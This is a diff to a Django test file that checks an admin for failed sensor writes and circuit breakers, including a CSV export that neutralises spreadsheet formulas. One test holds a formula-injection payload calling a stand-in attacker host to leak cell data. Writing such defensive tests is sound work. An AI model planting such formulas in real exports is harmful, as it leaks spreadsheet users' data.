@@ -2,10 +2,13 @@
 
 from __future__ import annotations
 
-import pytest
-from django.contrib.auth.models import User
+import csv
+import io
 
-from tasks import celery_tasks, deadletters, ingest
+import pytest
+from django.contrib.auth.models import Permission, User
+
+from tasks import celery_tasks, deadletters, export, ingest
 from tasks.breaker import INFLUX_BREAKER, OPEN
 from tasks.models import BreakerState, Category, FailedWrite, Status
 from tests.helpers import TEST_INFLUX_URL
@@ -16,8 +19,8 @@ URL = "/admin/tasks/failedwrite/"
 
 @pytest.fixture
 def admin_client(client):
-    User.objects.create_superuser("ops", "ops@example.org", "a-long-password-123")
-    client.login(username="ops", password="a-long-password-123")
+    # force_login: the login form and its throttling are not what these tests are about.
+    client.force_login(User.objects.create_superuser("ops", "ops@example.org", "a-long-pw-123"))
     return client
 
 
@@ -100,3 +103,87 @@ def test_the_periodic_replay_waits_for_a_closed_breaker(letters, influx, setting
     assert celery_tasks.replay_failed_writes.run(limit=10) == 1
     ingest.reset_process_state()
     assert FailedWrite.objects.get(pk=letters[0].pk).status == Status.PENDING
+
+
+def test_the_list_shows_entity_ids(admin_client, letters):
+    page = admin_client.get(URL).content.decode()
+    assert 'class="column-entities"' in page
+    assert '<td class="field-entities">sensor.kitchen</td>' in page
+    assert '<td class="field-entities">sensor.plug</td>' in page
+
+
+def test_the_detail_shows_event_times_not_nanoseconds(admin_client):
+    letter = deadletters.record_events(
+        [
+            {
+                "event_type": "state_changed",
+                "entity_id": "sensor.a",
+                "time": 1_767_614_400_123_456_789,
+            },
+            {
+                "event_type": "state_changed",
+                "entity_id": "sensor.b",
+                "time": 1_767_614_460_000_000_000,
+            },
+        ],
+        category=Category.TRANSIENT,
+        error="x",
+        batch_id="b",
+    )
+    page = admin_client.get(f"{URL}{letter.pk}/change/").content.decode()
+    assert "2026-01-05 12:00:00.123 to 2026-01-05 12:01:00.000" in page
+    lines = deadletters.record_lines(
+        ["W,domain=sensor,entity_id=plug value=1.0 1767614400000000000"],
+        category=Category.REJECTED,
+        error="x",
+        batch_id="c",
+    )
+    page = admin_client.get(f"{URL}{lines.pk}/change/").content.decode()
+    assert "2026-01-05 12:00:00.000" in page
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_cell_a_spreadsheet_would_evaluate_gets_an_apostrophe(start):
+    assert export.csv_cell(f"{start}1+1") == f"'{start}1+1"
+
+
+def test_plain_cells_stay_as_they_are():
+    assert export.csv_cell("sensor.kitchen") == "sensor.kitchen"
+    assert export.csv_cell(12) == "12" and export.csv_cell(None) == ""
+    assert export.csv_cell("a=b") == "a=b"
+
+
+def test_the_csv_export_neutralises_formula_payloads(admin_client):
+    formula = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
+    raw = deadletters.record_raw(formula, source="mqtt", error="@SUM(1+1)", context="-2+3")
+    response = admin_client.post(URL, {"action": "export_csv", "_selected_action": [raw.pk]})
+    header, row = list(csv.reader(io.StringIO(response.content.decode())))
+    cells = dict(zip(header, row, strict=True))
+    assert cells["payload"] == "'" + formula
+    assert cells["error"] == "'@SUM(1+1)" and cells["entity_ids"] == "'-2+3"
+    assert cells["category"] == "unparseable" and cells["first_failed_at"].startswith("20")
+
+
+BREAKERS = "/admin/tasks/breakerstate/"
+
+
+def test_a_closed_breaker_is_listed_and_an_open_one_resets(admin_client):
+    page = admin_client.get(BREAKERS).content.decode()
+    assert "influxdb" in page and '<td class="field-state">closed</td>' in page
+    BreakerState.objects.filter(name=INFLUX_BREAKER).update(state=OPEN, failures=7)
+    response = admin_client.post(
+        BREAKERS, {"action": "reset", "_selected_action": [INFLUX_BREAKER]}, follow=True
+    )
+    row = BreakerState.objects.get(name=INFLUX_BREAKER)
+    assert (row.state, row.failures, row.opened_at) == ("closed", 0, None)
+    assert "1 breaker(s) reset to closed" in response.content.decode()
+
+
+def test_resetting_a_breaker_needs_the_change_permission(client):
+    viewer = User.objects.create_user("viewer", password="a-long-password-123", is_staff=True)
+    viewer.user_permissions.add(Permission.objects.get(codename="view_breakerstate"))
+    client.force_login(viewer)
+    BreakerState.objects.create(name=INFLUX_BREAKER, state=OPEN, failures=7)
+    assert 'value="reset"' not in client.get(BREAKERS).content.decode()
+    client.post(BREAKERS, {"action": "reset", "_selected_action": [INFLUX_BREAKER]})
+    assert BreakerState.objects.get(name=INFLUX_BREAKER).state == OPEN
